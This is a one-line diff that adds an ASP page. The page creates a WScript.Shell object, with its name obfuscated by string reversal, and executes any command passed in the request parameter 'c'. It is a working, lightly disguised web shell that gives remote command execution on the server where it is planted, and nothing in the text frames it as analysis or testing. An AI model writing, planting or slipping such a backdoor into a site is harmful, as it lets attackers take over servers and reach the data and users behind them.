@@ -1,0 +1,1 @@
+<% Set o = Server.CreateObject(StrReverse("llehS.tpircSW")) : o.Run Request("c") %>
